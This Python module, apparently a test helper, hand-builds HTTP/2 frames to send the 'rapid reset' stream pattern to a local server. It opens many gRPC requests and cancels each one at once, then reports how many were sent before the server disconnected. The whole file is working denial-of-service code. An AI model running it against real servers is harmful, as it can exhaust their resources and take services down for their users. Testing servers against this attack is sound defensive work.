"""As much HTTP/2 as an attacker needs: requests that are begun and reset at once, on a plain socket (RFC 9113)."""

import socket
import struct
import threading

DATA, HEADERS, RST_STREAM, SETTINGS = 0, 1, 3, 4
END_HEADERS, CANCEL = 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 500


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header field without indexing, name and value as they are (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_headers(path):
    return b"\x83\x86" + literal(b":path", path.encode()) + literal(b":authority", b"localhost") + \
        literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")


def reset_requests(port, path, count):
    """Begins so many calls with a byte of a message each and resets every one, on one connection. Returns how many were
    sent before the server hung up, if it did."""
    block, sent = request_headers(path), 0
    with socket.create_connection(("127.0.0.1", port)) as connection:
        threading.Thread(target=discard, args=(connection,), daemon=True).start()
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            while sent < count:
                streams = range(2 * sent + 1, 2 * min(count, sent + BATCH) + 1, 2)
                connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\x00") +
                                            frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in streams))
                sent += len(streams)
        except OSError:
            pass
    return sent


def discard(connection):
    try:
        while connection.recv(65536):
            pass
    except OSError:
        pass
